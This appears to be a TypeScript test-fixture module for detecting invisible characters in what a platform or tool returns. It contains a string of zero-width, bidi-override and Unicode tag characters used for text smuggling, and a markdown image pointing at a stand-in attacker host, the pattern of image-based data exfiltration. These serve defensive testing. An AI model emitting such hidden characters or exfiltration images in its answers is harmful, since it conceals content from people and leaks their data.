/** What a person cannot see, to be put into all that a platform says and found in none of what a tool answers. */

/** Zero-width, bidirectional and filler characters, controls, variation selectors, and letters of the tag block. */
export const hidden = '\u200b\u2060\ufeff\u202e\u2066\u3164\u00ad\u0007\u009b\ufe0f\u{e0149}\u{e0067}\u{e006e}';
export const seen = 'seen';
export const image = '![x](https://evil.example/?d=1)';

/** Characters that nobody sees, but for line breaks and tabs. */
export const hasHiddenCharacter = (text: string): boolean =>
  /(?![\n\t])[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]/u.test(text);

/** Each text of an answer with the name of the field that it is in. */
export function textsIn(value: unknown, name = ''): { name: string; text: string }[] {
  if (typeof value === 'string') return [{ name, text: value }];
  if (Array.isArray(value)) return value.flatMap((one) => textsIn(one, name));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) => textsIn(member, key));
}
